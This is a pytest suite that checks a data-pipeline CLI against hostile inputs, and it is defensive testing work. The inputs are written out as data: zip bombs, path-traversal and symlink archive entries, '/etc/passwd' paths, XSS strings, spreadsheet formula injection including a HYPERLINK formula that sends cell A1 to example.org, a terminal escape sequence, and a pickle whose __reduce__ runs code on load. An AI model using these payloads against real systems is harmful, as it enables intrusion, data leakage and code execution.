"""Inputs from strangers, met through the command line (FAULT: the number in the list of faults).

How a fault is injected, refused and noticed: test_table_faults.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import stat
import tomllib
import tracemalloc
import zipfile
from functools import partial
from html.parser import HTMLParser
from typing import TYPE_CHECKING, cast

import pytest

from pipeline import commands
from pipeline.__main__ import run
from pipeline.cli import OTHER_COMMANDS, STAGE_COMMANDS
from pipeline.config import load_config
from pipeline.reading.archive import Limits
from tests.shell.conftest import Project, read_rows, write_csv
from tests.shell.test_table_faults import RAW, SAMPLE, TEST, TRAIN, edit, files_of, put, refused

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

COMMANDS = [*STAGE_COMMANDS, *OTHER_COMMANDS]
TRUSTED = "if you trust it, unpack it yourself"
MEGABYTE = 1 << 20
LONG = MEGABYTE


# --- 41 and 42: archives


def packed(entries: Mapping[str | zipfile.ZipInfo, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return stream.getvalue()


def with_archive(project: Project, content: bytes) -> None:
    """The competition as Kaggle serves it: one archive, and no config yet."""
    project.config.unlink()
    for file in project.raw.iterdir():
        file.unlink()
    (project.raw / "tiny.zip").write_bytes(content)


def link(name: str, kind: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (kind | 0o777) << 16
    return info


@pytest.mark.parametrize(
    ("limits", "entries", "sentence"),
    [
        ({}, {TRAIN: bytes(80 * MEGABYTE)}, "81,656 bytes unpack to more than 200 times as many, as in a zip bomb"),
        ({}, {f"{n}.csv": b"" for n in range(10_001)}, "10,001 entries, more than 10,000"),
        ({"total_bytes": 999}, {TRAIN: b"a" * 500, TEST: b"b" * 500}, "unpacks to more than 999 bytes"),
        ({"entry_bytes": 499}, {TRAIN: b"a" * 500}, "unpacks to more than 499 bytes"),
    ],
    ids=["ratio", "entries", "total", "entry"],
)
def test_a_zip_bomb_is_stopped_and_leaves_nothing(
    project: Project,
    monkeypatch: pytest.MonkeyPatch,
    limits: dict[str, int],
    entries: dict[str | zipfile.ZipInfo, bytes],
    sentence: str,
) -> None:
    """FAULT 41: by what comes out, entry by entry and in all; the unpacked part goes with it."""
    monkeypatch.setattr("pipeline.reading.archive.Limits", partial(Limits, **limits))
    with_archive(project, packed(entries))
    size = (project.raw / "tiny.zip").stat().st_size
    assert refused(project, "init") == f"{RAW}/tiny.zip: {sentence.replace('81,656', f'{size:,}')}; {TRUSTED}"


@pytest.mark.parametrize("name", ["train.csv.gz", "train.csv.zip"])
def test_a_packed_table_is_counted_while_it_is_read(project: Project, name: str) -> None:
    """FAULT 41: a bomb need not be an archive of tables, one table is enough."""
    header, row = (project.raw / TRAIN).read_bytes().splitlines(keepends=True)[:2]
    bomb = header + row * (80 * MEGABYTE // len(row))
    (project.raw / TRAIN).unlink()
    (project.raw / name).write_bytes(gzip.compress(bomb, mtime=0) if name.endswith("gz") else packed({TRAIN: bomb}))
    size = (project.raw / name).stat().st_size
    assert refused(project, "submit") == (
        f"{RAW}/{name}: {size:,} bytes unpack to more than 200 times as many, as in a zip bomb; {TRUSTED}"
    )


@pytest.mark.slow
def test_a_line_without_end_is_no_header(project: Project) -> None:
    """FAULT 41: 80 MB of one letter in a small file are called neither blank nor a table."""
    (project.raw / TRAIN).write_bytes(packed({TRAIN: b"0" * (80 * MEGABYTE)}))
    assert refused(project, "submit") == (
        f"{RAW}/{TRAIN}: no header ends within the first 67,108,864 bytes, expected column names; is it a table?"
    )


@pytest.mark.parametrize(
    ("entry", "sentence"),
    [
        ("../../train.csv", "entry '../../train.csv' leaves the folder"),
        ("sub/../../train.csv", "entry 'sub/../../train.csv' leaves the folder"),
        ("/train.csv", "entry '/train.csv' is an absolute path"),
        ("C:/train.csv", "entry 'C:/train.csv' is an absolute path"),
        ("..\\train.csv", "entry '..\\\\train.csv' has a backslash in its name"),
        (link(TRAIN, stat.S_IFLNK), "entry 'train.csv' is a link"),
        (link(TRAIN, stat.S_IFIFO), "entry 'train.csv' is a device"),
    ],
)
def test_an_entry_that_leaves_the_folder_is_refused(
    project: Project, entry: str | zipfile.ZipInfo, sentence: str
) -> None:
    """FAULT 42: nothing is unpacked, not even the harmless entry before it."""
    with_archive(project, packed({"notes.txt": b"harmless", entry: b"/etc/passwd"}))
    assert refused(project, "init") == f"{RAW}/tiny.zip: {sentence}; nothing was unpacked"


# --- 43 and 44: texts that are more than texts elsewhere

SCRIPT = "</script><script>alert(1)</script>"
IMAGE = "</title><img src=x onerror=alert(1)>"
FORMULAS = ['=HYPERLINK("http://example.org?"&A1)', "+1+1", "@SUM(A1)", "-2", "\t=1", '"=1"', "'=1", " =1 "]


def with_ids(project: Project, ids: list[str]) -> tuple[list[str], list[str]]:
    """Each as a training and as a test id, on rows that the report shows for their large errors."""
    tests = [f"{name}t" for name in ids]
    put(project, TRAIN, "key", dict(enumerate(ids, start=2)))
    put(project, TRAIN, "cost", dict.fromkeys(range(2, len(ids) + 2), "90000000"))
    for file in (TEST, SAMPLE):
        put(project, file, "key", dict(enumerate(tests, start=2)))
    return ids, tests


class Page(HTMLParser):
    """What a browser would make of the report: its elements with attributes, and its texts."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def page_of(project: Project) -> Page:
    page = (project.reports / "report.html").read_bytes()
    assert len(page) < 5_000_000
    read = Page(page.decode())
    assert not read.tags & {"script", "img", "iframe", "a", "link", "object"}
    assert not {name for name in read.attributes if name.startswith("on")}
    return read


@pytest.mark.slow
def test_ids_that_start_a_formula_stay_as_they_are_where_programs_read_them(project: Project) -> None:
    """FAULT 43: byte-exact in submission.csv and oof.csv, in no other file but the page, where they are text."""
    trains, tests = with_ids(project, FORMULAS)
    project.must("submit")
    project.must("report")
    assert [row[0] for row in read_rows(project.reports / "submission.csv")][1 : len(tests) + 1] == tests
    assert {row[0] for row in read_rows(project.models / "oof.csv")} >= set(trains)
    texts = page_of(project).texts
    shown = {name for name in trains if name.replace("\t", "\ufffd") in texts}
    assert shown >= set(trains[:4])
    people = {"metrics.json", ".published.json"}
    written = {p.name: p.read_text() for p in project.reports.iterdir() if p.name in people}
    assert written.keys() == people
    assert not [name for text in written.values() for name in trains if json.dumps(name) in text]


@pytest.mark.slow
def test_names_levels_and_settings_of_any_content_are_text_in_the_report(project: Project) -> None:
    """FAULT 44: markup, quotes, line breaks and a megabyte in columns, levels, ids, files and the config."""
    names = [SCRIPT, "\"double\" 'single' & <b>", "line\nbreak\ttab", "M" * MEGABYTE]
    with_ids(project, [SCRIPT, IMAGE, 'quo"te', "line\nbreak", "I" * LONG])
    for file in (TRAIN, TEST):
        rows = read_rows(project.raw / file)
        rows[0][1:5] = names
        for line, row in enumerate(rows[1:]):
            row[3] = IMAGE if line % 2 else row[3]
        rows[1][4] = f"{file}{'L' * MEGABYTE}"
        write_csv(project.raw / file, cast("list[list[object]]", rows))
    named = f"{IMAGE.replace('/', '')}.csv"
    (project.raw / TRAIN).rename(project.raw / named)
    (project.raw / named).write_bytes(b"\xef\xbb\xbf" + (project.raw / named).read_bytes())
    missing = json.dumps([*("", "NA"), IMAGE])
    text = project.config.read_text().replace(
        "[folds]", f"[schema.missing_in]\n{json.dumps(names[1])} = {missing}\n[folds]"
    )
    project.config.write_text(f"{text}\n[files]\ntrain = {json.dumps(named)}\n")
    project.must("report")
    texts = "\n".join(page_of(project).texts)
    for shown in (SCRIPT, IMAGE, names[1], named[:20], "MMMM"):
        assert shown in texts
    assert "M" * 1000 not in texts


@pytest.mark.slow
def test_a_long_id_costs_its_own_length_and_not_that_of_every_row(project: Project) -> None:
    """FAULT 44: 128 KiB in one of 240 ids as a numpy text array are 240 x 128 Ki x 4 bytes = 126 MB, twice."""
    with_ids(project, ["I" * (1 << 17)])
    project.must("ingest", "--set", "schema.row_share=0.9")  # whatever is imported is imported now
    tracemalloc.start()
    try:
        project.must("ingest")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 60 * MEGABYTE


def test_init_drafts_valid_toml_whatever_the_columns_are_called(project: Project) -> None:
    """FAULT 44: the draft loads, names what it was given, and `config check` finds nothing wrong with it."""
    target = f'co"st{SCRIPT}\\'
    names = ['"]\n[train]\nlr = 9', "a.b = 'c' # d", "\x7f\u2028x", "M" * MEGABYTE]
    for file in (TRAIN, TEST):
        rows = read_rows(project.raw / file)
        rows[0][1:5] = names
        rows[0][5:] = [target] if file == TRAIN else []
        # a column of dates, and one that is always the same, are written down in the draft
        for line, row in enumerate(rows[1:]):
            row[3], row[4] = f"2024-01-{line % 28 + 1:02d}", "same"
        write_csv(project.raw / file, cast("list[list[object]]", rows))
    edit(project, SAMPLE, lambda rows: rows[0].__setitem__(1, target))
    project.must("init", "--force")
    text = project.config.read_text()
    drafted = tomllib.loads(text)
    assert drafted["schema"]["target"] == target
    assert list(drafted["schema"]["dates"]) == [names[2]]
    assert drafted["schema"]["drop"] == [names[3]]
    assert "train" not in drafted
    assert load_config(text, file="tiny.toml").config.roles.target == target
    assert project.must("config", "check").startswith("check       nothing wrong")


def test_a_name_sends_no_command_to_the_terminal(project: Project) -> None:
    """FAULT 44: an escape character in a column's name would recolour, retitle or clear the screen."""
    for file in (TRAIN, TEST):
        edit(project, file, lambda rows: rows[0].__setitem__(2, "\x1b[2Jage"))
    assert "\x1b" not in project.must("preprocess")


# --- 45: pickles


@pytest.mark.slow
def test_no_command_opens_a_foreign_pickle(project: Project) -> None:
    """FAULT 45: under any name, in any folder of artifacts, in the place of an artifact without its manifest."""
    project.must("report")
    trap = project.root / "sprung"

    class Trap:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return os.mkdir, (str(trap),)

    pickled = pickle.dumps(Trap())
    pickle.loads(pickled)
    trap.rmdir()  # it works
    processed = project.root / "data" / "processed" / "tiny"
    for folder in (project.models, processed, project.raw, project.reports):
        for name in ("foreign.joblib", "model.pt", "weights.pkl", "train-000000000000.joblib", "part-0000.joblib"):
            (folder / name).write_bytes(pickled)
    for manifest in [*project.models.glob("*-*.json"), *processed.glob("*-*.json")]:
        manifest.with_suffix(".joblib").write_bytes(pickled)
        if manifest.name.startswith(("train", "preprocess")):
            manifest.unlink()
    small = ("--set", "search.trials=1", "--set", "search.parallel=1")
    codes = {command: project.run(*_words(command), *small)[0] for command in COMMANDS if command != "sample"}
    assert not trap.exists()
    assert {command for command, code in codes.items() if code} == {"init", "heldout"}  # a config, and no solution


def _words(command: str) -> list[str]:
    """A command with what it needs beside a name."""
    own = {
        "explain": ["train"],
        "config": ["check"],
        "predict": ["--input", f"{RAW}/{TEST}", "--output", "out.csv"],
    }
    return [command, *own.get(command, [])]


# --- 46: names that are paths

NO_NAME = "is no competition name: letters, digits, dots, dashes and underscores only"
NO_NAMES = ["a/../b", "../tiny", "/etc/passwd", "", ".", "..", ".hidden", "a b", "a\0b", "a\nb", "~", "$HOME", "tiny/"]


@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_takes_a_path_for_a_name(project: Project, command: str) -> None:
    """FAULT 46: names become folders; not one file or folder comes of these."""
    before = {*project.root.parent.rglob("*")}
    for name in NO_NAMES:
        assert run([*_words(command), name]) == 2
        assert project._capsys.readouterr() == ("", f"error: {name!r} {NO_NAME}\n")
    assert run([*_words(command), "x" * 5000]) == 2
    assert project._capsys.readouterr() == (
        "",
        (
            f"error: '{'x' * 20}'… is no competition name: 5,000 letters, more than the 100 bytes that folders may "
            f"have here; shorten it\n"
        ),
    )
    assert {*project.root.parent.rglob("*")} == before


@pytest.mark.parametrize("command", [command for command in COMMANDS if command != "init"])
def test_a_path_to_a_config_names_folders_by_its_last_part_only(project: Project, command: str) -> None:
    """FAULT 46: `x/../..toml` and a file elsewhere never lead out of models/NAME."""
    for name in ("sub/...toml", "a b.toml", "a\0b.toml", f"{'x' * 300}.toml"):
        assert run([*_words(command), name]) == 2
        assert "is no competition name" in project._capsys.readouterr().err
    assert run([*_words(command), "sub/../../absent.toml"]) == 2
    assert project._capsys.readouterr().err == "error: sub/../../absent.toml: no such file; known here: tiny\n"


@pytest.mark.parametrize(
    ("setting", "sentence"),
    [
        ("raw=..", f"`raw`: '..' {NO_NAME}"),
        ("raw=.", f"`raw`: '.' {NO_NAME}"),
        ("raw=.git", f"`raw`: '.git' {NO_NAME}"),
        ("raw=../tiny", "--set raw: raw = '../tiny': expected the name of one folder: letters, digits, _, . and -"),
        (
            "files.train=../other/train.csv",
            (
                f"[files] train names '../other/train.csv', expected a file inside {RAW}; move it there and name it "
                f"without .."
            ),
        ),
        (
            "files.test=/etc/passwd",
            f"[files] test names '/etc/passwd', expected a file inside {RAW}; move it there and name it without ..",
        ),
        (
            'files.sample="a\\u0000b"',
            (f"{RAW}: no 'a\\x00b', which [files] sample names; found sample_submission.csv, test.csv, train.csv"),
        ),
        (
            'join=[{file = "../train.csv", on = ["key"]}]',
            (f"[[join]] file names '../train.csv', expected a file inside {RAW}; move it there and name it without .."),
        ),
    ],
)
def test_a_setting_that_names_a_file_stays_in_its_folder(project: Project, setting: str, sentence: str) -> None:
    """FAULT 46: configs travel between people as files do."""
    assert refused(project, "submit", "--set", setting) == sentence


@pytest.mark.parametrize("name", ["../house-prices", "/somewhere/house-prices"])
def test_init_fetches_no_sample_into_a_folder_that_a_name_leads_to(
    project: Project, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """FAULT 46: the last part of the path is a sample's name."""
    fetched: list[Path] = []

    def fetch(_: str, folder: Path, **__: object) -> None:
        fetched.append(folder)
        raise KeyboardInterrupt

    monkeypatch.setattr(commands, "fetch_sample", fetch)
    run(["init", name])
    assert fetched == []


# --- 47: tokens

CANARY = "KGAT_canary0123456789abcdef"


@pytest.mark.slow
def test_a_token_in_the_environment_is_in_nothing_that_is_said_or_written(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """FAULT 47: logs, manifests, artifacts, report and messages of every command, failing ones among them."""
    for name in ("KAGGLE_KEY", "KAGGLE_API_TOKEN", "KAGGLE_USERNAME", "AWS_SECRET_ACCESS_KEY", "PIPELINE_TOKEN"):
        monkeypatch.setenv(name, CANARY)
    small = ("--set", "search.trials=1", "--set", "search.parallel=1")
    said = ["\n".join(map(str, project.run(*_words(name), *small))) for name in COMMANDS if name != "sample"]
    said += [project.must("config", "show", "--origin"), refused(project, "train", "--set", "train.lr=none")]
    put(project, TRAIN, "cost", {2: "cheap"})
    said.append(refused(project, "train"))
    assert not [text for text in said if CANARY in text]
    written = files_of(project)
    kinds = {path.suffix for path in written}
    assert kinds >= {".joblib", ".json", ".html", ".csv", ".journal"}
    assert not [path for path, content in written.items() if CANARY.encode() in content]
